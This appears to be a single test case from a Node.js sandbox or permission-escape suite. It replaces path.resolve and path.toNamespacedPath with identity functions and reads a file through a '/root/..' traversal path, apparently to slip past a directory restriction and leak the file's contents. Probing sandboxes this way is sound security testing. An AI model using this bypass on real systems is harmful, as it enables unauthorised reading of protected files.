var path = require('path')
var host = path.dirname(path.dirname(trial.file))
var name = trial.file.slice(host.length)
path.resolve = function (text) {
  return text
}
path.toNamespacedPath = path.resolve
witness()
leak(require('fs').readFileSync(host + '/root/..' + name, 'utf8'))
return 'tried'
